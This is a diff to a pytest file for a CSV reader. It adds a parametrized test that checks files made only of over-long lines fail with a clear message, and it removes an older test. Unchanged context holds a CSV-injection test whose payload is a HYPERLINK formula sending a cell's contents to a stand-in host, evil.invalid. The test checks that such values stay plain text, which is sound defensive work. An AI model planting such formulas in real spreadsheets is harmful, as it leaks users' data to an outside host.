@@ -235,24 +235,28 @@ def test_giant_line_is_rejected_with_bounded_memory(
     assert len(reader.rejected.samples[0]["excerpt"]) <= sources.EXCERPT_CHARS
 
 
+@pytest.mark.parametrize("lines", [1, 3])
+def test_a_file_of_nothing_but_giant_lines_stops_with_a_clear_message(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, lines: int
+) -> None:
+    # A single 2 GB line, in small: no line fits, nothing is kept, the message says why.
+    monkeypatch.setattr(sources, "CHUNK_BYTES", 4096)
+    path = tmp_path / "one_line.csv"
+    path.write_text("\n".join(["Dupont;Jean;" * 5_000] * lines), encoding="utf-8")
+    reader = Reader(duckdb.connect(), tmp_path, max_line=10_000)
+    said = "its only line is" if lines == 1 else f"all its {lines} lines are"
+    with pytest.raises(InvalidInput, match=f"one_line.csv: {said} longer than 10000 characters"):
+        reader.read(path)
+    assert reader.rejected.count == lines
+    assert not list(tmp_path.glob("work*.csv"))  # the working copy is gone
+
+
 def test_csv_injection_payloads_are_kept_as_text(tmp_path: Path) -> None:
     payload = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'
     path = tmp_path / "inj.csv"
     path.write_text(_csv([["nom", "prenom"], [payload, "@SUM(1+1)"]], ";"), encoding="utf-8")
     _reader, got = _read(tmp_path, path)
     assert got == [[payload, "@SUM(1+1)"]]
-
-
-def test_a_file_that_is_one_giant_line_is_refused_clearly(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setattr(sources, "CHUNK_BYTES", 4096)
-    path = tmp_path / "oneline.csv"
-    path.write_text("a;" * 60_000, encoding="utf-8")
-    reader = Reader(duckdb.connect(), tmp_path, max_line=10_000)
-    with pytest.raises(InvalidInput, match="no columns found"):
-        reader.read(path)
-    assert reader.rejected.count == 1
 
 
 @settings(max_examples=200, deadline=None)
